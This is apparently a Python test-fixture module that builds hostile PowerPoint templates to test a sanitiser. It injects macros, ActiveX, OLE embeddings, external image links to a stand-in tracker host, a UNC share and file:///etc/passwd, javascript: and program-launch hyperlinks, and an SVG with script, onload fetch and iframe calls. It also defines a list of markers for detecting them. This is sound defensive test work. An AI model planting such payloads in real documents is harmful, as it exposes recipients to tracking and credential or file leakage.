"""Crafted hostile templates: python-pptx's own template with active or external content
added to its masters and layouts, the way an attacker would, for the hostile-input tests
and benchmarks/template_bombs.py."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

from pptx import Presentation

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_RELS = "http://schemas.microsoft.com/office/2006/relationships/"
NSDECLS = (
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
)
MACRO_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
#: What must never reach a deck or a theme's copy of the template.
ACTIVE_MARKERS = (
    "vbaProject",
    "activeX",
    "oleObject",
    "embeddings/",
    "customXml",
    "macroEnabled",
    "javascript:",
    "tracker.example",
    "\\\\evil-host",
    "file:///",
    "ppaction://program",
    "p:controls",
    "p:oleObj",
)
GOOD_LINK = "https://example.com/brand"


def default_parts() -> dict[str, bytes]:
    """Return the members of python-pptx's own template."""
    out = io.BytesIO()
    Presentation().save(out)
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def save(parts: dict[str, bytes], path: Path, compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    return path


def add_rel(
    parts: dict[str, bytes], rels: str, rid: str, reltype: str, target: str, external=False
):
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{reltype}" Target="{target}"{mode}/>'
    parts[rels] = parts[rels].replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def add_type(parts: dict[str, bytes], part: str, content_type: str) -> None:
    item = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", item.encode() + b"</Types>"
    )


def add_shapes(parts: dict[str, bytes], part: str, xml: str) -> None:
    parts[part] = parts[part].replace(b"</p:spTree>", xml.encode() + b"</p:spTree>", 1)


def shape(shape_id: int, name: str, inner: str = "", text: str = "") -> str:
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="{shape_id}" name="{name}">{inner}</p:cNvPr><p:cNvSpPr/>'
        '<p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" '
        'cy="457200"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
        f"<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr/><a:t>{text or name}</a:t></a:r>"
        "</a:p></p:txBody></p:sp>"
    )


def linked_picture(shape_id: int, rid: str) -> str:
    return (
        f'<p:pic><p:nvPicPr><p:cNvPr id="{shape_id}" name="Linked {shape_id}"/><p:cNvPicPr/>'
        f'<p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="{rid}"/><a:stretch><a:fillRect/>'
        '</a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" '
        'cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
    )


def ole_frame(shape_id: int, rid: str) -> str:
    return (
        f'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="{shape_id}" name="Object"/>'
        '<p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        f'<p:oleObj name="Packager" r:id="{rid}" imgW="1" imgH="1" progId="Package">'
        "<p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>"
    )


def active_template(path: Path) -> Path:
    """Save a template carrying every kind of active or external content we know of."""
    parts = default_parts()
    master, layout = "ppt/slideMasters/slideMaster1.xml", "ppt/slideLayouts/slideLayout2.xml"
    master_rels = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    layout_rels = "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
    # A macro project related from a layout and from the presentation; the main part
    # labelled macro-enabled.
    parts["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 fake VBA project"
    add_type(parts, "ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    add_rel(parts, layout_rels, "rId90", MS_RELS + "vbaProject", "../vbaProject.bin")
    add_rel(
        parts, "ppt/_rels/presentation.xml.rels", "rId90", MS_RELS + "vbaProject", "vbaProject.bin"
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        PLAIN_MAIN.encode(), MACRO_MAIN.encode()
    )
    # An ActiveX control on a layout.
    parts["ppt/activeX/activeX1.xml"] = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
    )
    add_type(parts, "ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    add_rel(parts, layout_rels, "rId91", RELS + "control", "../activeX/activeX1.xml")
    parts[layout] = parts[layout].replace(
        b"</p:spTree>",
        b'</p:spTree><p:controls><p:control name="Cmd" r:id="rId91" spid="1025"/></p:controls>',
        1,
    )
    # An OLE embedding on the master.
    parts["ppt/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 fake OLE"
    add_type(
        parts,
        "ppt/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
    )
    add_rel(parts, master_rels, "rId92", RELS + "oleObject", "../embeddings/oleObject1.bin")
    add_shapes(parts, master, ole_frame(90, "rId92"))
    # Pictures linked to a URL, a UNC path and a file; hyperlinks to javascript:, to a
    # program, and one good link that is kept.
    for n, target in enumerate(
        ("http://tracker.example/pixel.png", "\\\\evil-host\\share\\p.png", "file:///etc/passwd")
    ):
        add_rel(parts, layout_rels, f"rId{93 + n}", RELS + "image", target, external=True)
        add_shapes(parts, layout, linked_picture(80 + n, f"rId{93 + n}"))
    add_rel(parts, master_rels, "rId96", RELS + "hyperlink", "javascript:alert(1)", True)
    add_rel(parts, master_rels, "rId97", RELS + "hyperlink", GOOD_LINK, True)
    add_shapes(parts, master, shape(91, "Evil", '<a:hlinkClick r:id="rId96"/>'))
    add_shapes(parts, master, shape(92, "Brand", '<a:hlinkClick r:id="rId97"/>'))
    add_shapes(
        parts, master, shape(93, "Run", '<a:hlinkClick r:id="" action="ppaction://program"/>')
    )
    # Custom XML related from the presentation.
    parts["customXml/item1.xml"] = b"<secret>payload</secret>"
    add_rel(
        parts,
        "ppt/_rels/presentation.xml.rels",
        "rId98",
        RELS + "customXml",
        "../customXml/item1.xml",
    )
    return save(parts, path)


def package_text(path: Path) -> tuple[list[str], str]:
    """Return a package's member names and all its XML and .rels text, joined."""
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        text = "\n".join(
            archive.read(name).decode("utf-8", "replace")
            for name in names
            if name.endswith((".xml", ".rels"))
        )
    return names, text


def external_targets(text: str) -> list[str]:
    return re.findall(r'Target="([^"]*)" TargetMode="External"', text)


SVG_BLIP_EXTENSION = "{96DAC541-7B7A-43D3-8B79-37D633B846F1}"
ASVG = "http://schemas.microsoft.com/office/drawing/2016/SVG/main"
#: The colour of the PNG fallback: what PowerPoint and LibreOffice draw once the SVG goes.
FALLBACK_RGB = (227, 108, 10)
#: An SVG that fetches, runs and frames whatever it can when a viewer draws it.
HOSTILE_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'width="64" height="64" viewBox="0 0 64 64" '
    b"onload=\"fetch('http://tracker.example/onload')\">"
    b'<style>@import url("http://tracker.example/style.css");'
    b" rect { fill: url(http://tracker.example/paint.svg#g) }</style>"
    b'<script>fetch("http://tracker.example/script")</script>'
    b'<image href="http://tracker.example/svg-pixel.png" width="1" height="1"/>'
    b'<image xlink:href="\\\\evil-host\\share\\svg.png" width="1" height="1"/>'
    b'<use xlink:href="file:///etc/passwd#x"/>'
    b'<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" '
    b'src="http://tracker.example/frame"/></foreignObject>'
    b'<rect width="64" height="64" fill="#0000FF" onclick="alert(1)"/></svg>'
)
#: What shows an SVG reached a package (member names, XML and .rels text, any bytes).
SVG_MARKERS = ("image/svg", ".svg", "svgBlip", SVG_BLIP_EXTENSION[1:-1], "<svg", "<script")
EMBEDDED_FONT = "ppt/fonts/font1.fntdata"
FONT_BYTES = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
TEMPLATE_PROPERTIES = {"TrackingId": "corp-7f3a9", "deckwright:input:/etc/passwd": "0" * 64}


def png_bytes(rgb: tuple[int, int, int] = FALLBACK_RGB, size: int = 64) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (size, size), rgb).save(out, "PNG")
    return out.getvalue()


def svg_picture(shape_id: int, png_rid: str, svg_rid: str | None, x: int = 7315200) -> str:
    """A picture the way PowerPoint saves an SVG icon: the PNG fallback in the blip's own
    r:embed, the SVG in the svgBlip extension (svg_rid None: a plain picture)."""
    extension = (
        f'<a:extLst><a:ext uri="{SVG_BLIP_EXTENSION}"><asvg:svgBlip xmlns:asvg="{ASVG}" '
        f'r:embed="{svg_rid}"/></a:ext></a:extLst>'
        if svg_rid
        else ""
    )
    return (
        f'<p:pic><p:nvPicPr><p:cNvPr id="{shape_id}" name="Icon {shape_id}" descr="icon"/>'
        '<p:cNvPicPr><a:picLocks noChangeAspect="1"/></p:cNvPicPr><p:nvPr/></p:nvPicPr>'
        f'<p:blipFill><a:blip r:embed="{png_rid}">{extension}</a:blip><a:stretch><a:fillRect/>'
        f'</a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="{x}" y="228600"/><a:ext '
        'cx="1371600" cy="1371600"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
        "</p:spPr></p:pic>"
    )


def svg_template(path: Path) -> Path:
    """Save a template whose layouts carry SVG pictures (PowerPoint's svgBlip with a PNG
    fallback, an SVG disguised as a PNG or as plain XML, a picture bullet), an embedded
    font (and one fetched from a URL) and custom document properties with a tracking id
    and a forged deckwright record.
    """
    parts = default_parts()
    content_layout = "ppt/slideLayouts/slideLayout2.xml"  # Title and Content: bullets
    title_layout = "ppt/slideLayouts/slideLayout1.xml"  # Title Slide
    add_default_type(parts, "svg", "image/svg+xml")
    add_default_type(parts, "png", "image/png")
    add_default_type(parts, "fntdata", "application/x-fontdata")
    parts["ppt/media/icon1.png"] = png_bytes()
    parts["ppt/media/icon1.svg"] = HOSTILE_SVG
    rels = "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
    add_rel(parts, rels, "rId80", RELS + "image", "../media/icon1.png")
    add_rel(parts, rels, "rId81", RELS + "image", "../media/icon1.svg")
    add_shapes(parts, content_layout, svg_picture(80, "rId80", "rId81"))
    # An SVG labelled a PNG by its name, embedded as a plain picture.
    parts["ppt/media/disguised.png"] = b"\xef\xbb\xbf  " + HOSTILE_SVG
    rels = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
    add_rel(parts, rels, "rId80", RELS + "image", "../media/disguised.png")
    add_shapes(parts, title_layout, svg_picture(80, "rId80", None))
    # A picture bullet on the master drawn by the same disguised SVG.
    master = "ppt/slideMasters/slideMaster1.xml"
    add_rel(
        parts,
        "ppt/slideMasters/_rels/slideMaster1.xml.rels",
        "rId80",
        RELS + "image",
        "../media/disguised.png",
    )
    parts[master] = parts[master].replace(
        '<a:buChar char="–"/>'.encode(), b'<a:buBlip><a:blip r:embed="rId80"/></a:buBlip>', 1
    )
    # An svgBlip whose SVG is labelled plain XML, beside a PNG fallback shared with the
    # content layout.
    parts["ppt/media/vector.bin"] = HOSTILE_SVG
    add_type(parts, "ppt/media/vector.bin", "application/xml")
    add_rel(parts, rels, "rId81", RELS + "image", "../media/icon1.png")
    add_rel(parts, rels, "rId82", RELS + "image", "../media/vector.bin")
    add_shapes(parts, title_layout, svg_picture(81, "rId81", "rId82", x=457200))
    # An embedded font (kept) and one linked to a URL (dropped with its markup).
    parts[EMBEDDED_FONT] = FONT_BYTES.read_bytes() if FONT_BYTES.is_file() else b"\0\1\0\0font"
    pres_rels = "ppt/_rels/presentation.xml.rels"
    add_rel(parts, pres_rels, "rId80", RELS + "font", "fonts/font1.fntdata")
    add_rel(parts, pres_rels, "rId81", RELS + "font", "http://tracker.example/f.fntdata", True)
    parts["ppt/presentation.xml"] = re.sub(
        rb"(<p:notesSz [^>]*/>)",
        rb'\1<p:embeddedFontLst><p:embeddedFont><p:font typeface="DejaVu Sans"/>'
        rb'<p:regular r:id="rId80"/><p:bold r:id="rId81"/></p:embeddedFont></p:embeddedFontLst>',
        parts["ppt/presentation.xml"],
        count=1,
    )
    # Custom document properties: a tracking id and a forged deckwright record.
    rows = "".join(
        f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="{n}" name="{name}">'
        f"<vt:lpwstr>{value}</vt:lpwstr></property>"
        for n, (name, value) in enumerate(TEMPLATE_PROPERTIES.items(), start=2)
    )
    parts["docProps/custom.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://'
        'schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://'
        f'schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">{rows}</Properties>'
    ).encode()
    add_type(
        parts,
        "docProps/custom.xml",
        "application/vnd.openxmlformats-officedocument.custom-properties+xml",
    )
    add_rel(parts, "_rels/.rels", "rId80", RELS + "custom-properties", "docProps/custom.xml")
    return save(parts, path)


def add_default_type(parts: dict[str, bytes], extension: str, content_type: str) -> None:
    if f'Extension="{extension}"'.encode() in parts["[Content_Types].xml"]:
        return
    item = f'<Default Extension="{extension}" ContentType="{content_type}"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Override", item.encode() + b"<Override", 1
    )
